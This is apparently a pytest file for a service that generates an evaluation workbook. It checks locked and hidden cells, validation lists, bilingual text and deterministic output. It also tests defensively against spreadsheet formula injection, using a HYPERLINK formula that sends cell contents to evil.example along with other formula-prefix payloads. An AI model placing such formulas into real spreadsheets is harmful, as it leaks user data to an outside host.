"""The file as a person and as a program gets it: what is locked, hidden, live; and that no text in it is obeyed."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO
from typing import Any

import openpyxl
import pytest

from services.evaluation import instrument_files
from services.evaluation.domain.workbook.layout import GUIDE, IDENTITY, LISTS, SUMMARY, layout_of
from services.evaluation.domain.workbook.lists import label_of
from tests.services.evaluation.domain.sheets import uniform_sheet
from tests.services.evaluation.workbook.files import ACCOUNT, HEADING, address_of, workbook_with

INSTRUMENT = instrument_files.load("lke-2021")
LAYOUT = layout_of(INSTRUMENT)
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"klik")'


@pytest.fixture(scope="module")
def book() -> openpyxl.Workbook:
    return opened(workbook_with("lke-2021", uniform_sheet(INSTRUMENT, best=True)))


def opened(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(BytesIO(content))


def every_cell(book: openpyxl.Workbook) -> Iterator[Any]:
    return (cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None)


def answer_addresses() -> Iterator[tuple[str, str]]:
    for place in LAYOUT.questions:
        ratio = place.question.ratio
        keys = [one.key for one in ratio.inputs if not one.sum_of] if ratio else [None]
        yield from (address_of(place.question.id, key) for key in keys)


def test_there_is_a_sheet_for_each_area_and_for_the_results(book: openpyxl.Workbook) -> None:
    assert book.sheetnames == [GUIDE, "MP", "TL", "SDM", "AK", "PW", "PP", "Hasil", SUMMARY, LISTS, IDENTITY]


def test_answers_are_open_and_every_other_cell_is_locked(book: openpyxl.Workbook) -> None:
    answers = set(answer_addresses())
    for cell in every_cell(book):
        assert cell.protection.locked == ((cell.parent.title, cell.coordinate) not in answers), cell
    assert {sheet.title for sheet in book if not sheet.protection.sheet} == set()
    assert all(not book[sheet][address].protection.locked for sheet, address in answers)


def test_what_the_file_says_of_itself_is_hidden(book: openpyxl.Workbook) -> None:
    assert (book[LISTS].sheet_state, book[IDENTITY].sheet_state) == ("hidden", "veryHidden")


def test_each_answer_cell_has_a_rule_and_each_list_the_options_of_its_question(book: openpyxl.Workbook) -> None:
    rules = {
        (sheet.title, cell.coord): rule
        for sheet in book
        for rule in sheet.data_validations.dataValidation
        for cell in rule.sqref.ranges
    }
    assert rules.keys() == set(answer_addresses())
    for place in (place for place in LAYOUT.questions if place.question.options):
        rule = rules[address_of(place.question.id)]
        first, last = rule.formula1.split("!")[1].replace("$", "").split(":")
        shown = [cell.value for row in book[LISTS][f"{first}:{last}"] for cell in row]
        assert shown == [label_of(option) for option in place.question.options]


def test_both_languages_stand_on_the_sheets(book: openpyxl.Workbook) -> None:
    texts = "\n".join(str(cell.value) for cell in every_cell(book))
    for question in INSTRUMENT.questions.values():
        assert all(text in texts for text in question.text)
    assert all(word in texts for word in ("Cara mengisi", "How to fill in", "Jawaban", "Answer"))


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-1", "@SUM(A1)", "\t=1", " =1", "＝1"])
def test_no_text_of_a_stranger_becomes_a_formula(text: str) -> None:
    heading = replace(HEADING, unit_name=text, institution_name=text)
    content = workbook_with("lke-2021", {}, heading=heading)
    plain = opened(workbook_with("lke-2021", {}))
    formulas = [cell.value for cell in every_cell(opened(content)) if cell.data_type == "f"]
    assert formulas == [cell.value for cell in every_cell(plain) if cell.data_type == "f"]
    strings = [cell.value for cell in every_cell(opened(content)) if cell.data_type == "s"]
    texts = [value for value in strings if text.strip() in value]
    # Either in the middle of a text, or behind an apostrophe: also after somebody saves it as CSV.
    assert texts
    assert all(not value.lstrip().startswith(("=", "+", "-", "@", "＝")) for value in texts)
    assert b"TargetMode" not in b"".join(parts(content).values())


def test_the_same_worksheet_gives_the_same_bytes() -> None:
    answers = uniform_sheet(INSTRUMENT, best=False)
    assert workbook_with("lke-2021", answers) == workbook_with("lke-2021", answers)


def test_nobody_is_named_in_the_file() -> None:
    content = workbook_with("lke-2021", uniform_sheet(INSTRUMENT, best=True))
    assert ACCOUNT.encode() not in b"".join(parts(content).values())


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
